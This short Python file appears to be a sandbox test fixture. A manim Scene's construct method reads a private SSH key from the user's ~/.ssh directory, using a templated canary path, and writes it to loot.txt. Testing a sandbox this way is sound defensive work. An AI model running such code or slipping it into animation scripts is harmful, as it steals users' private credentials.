# family: file
# layer: sandbox
# attack: read a private key in the user's ~/.ssh
from manim import *


class Attack(Scene):
    def construct(self):
        loot = open("{{HOME}}/.ssh/{{SSH_CANARY}}").read()
        open("loot.txt", "w").write(loot)
        self.wait(0.1)
